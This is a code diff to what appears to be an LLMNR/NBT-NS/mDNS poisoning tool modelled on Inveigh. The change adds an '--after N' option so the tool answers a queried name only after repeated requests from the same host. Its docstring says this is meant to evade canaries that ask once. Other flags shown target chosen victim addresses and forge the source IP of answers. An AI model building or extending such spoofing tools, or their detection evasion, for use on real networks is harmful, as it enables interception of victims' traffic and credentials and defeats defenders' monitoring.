@@ -47,11 +47,21 @@ def nb_decode(enc):
     return raw[:15].decode("latin-1").rstrip(), raw[15]
 
 
+ASKED = {}
+
+
 def wanted(a, name, src):
-    """Whether the mode answers `name` asked by `src`."""
+    """Whether the mode answers `name` asked by `src` (with --after N: only from the Nth query
+    for the name from that host on, as Inveigh can: a canary asks once)."""
     if a.names and name.lower() not in a.names:
         return False
-    return not a.victims or src in a.victims
+    if a.victims and src not in a.victims:
+        return False
+    if a.after > 1:
+        k = (name.lower().removesuffix(".local"), src)
+        ASKED[k] = ASKED.get(k, 0) + 1
+        return ASKED[k] >= a.after
+    return True
 
 
 def send(a, sock, ans, dst):
@@ -198,6 +208,7 @@ def main():
     p.add_argument("--log", required=True)
     p.add_argument("--names", default="", help="answer only these names (comma-separated)")
     p.add_argument("--victims", default="", help="answer only these queriers (comma-separated addresses)")
+    p.add_argument("--after", type=int, default=0, help="answer a name only from the Nth query for it from one host on (Inveigh)")
     p.add_argument("--answer-with", default="", help="the IPv4 address to put in answers (default: its own)")
     p.add_argument("--spoof-src", default="", help="forge this IPv4 source on NBT-NS and LLMNR answers")
     a = p.parse_args()
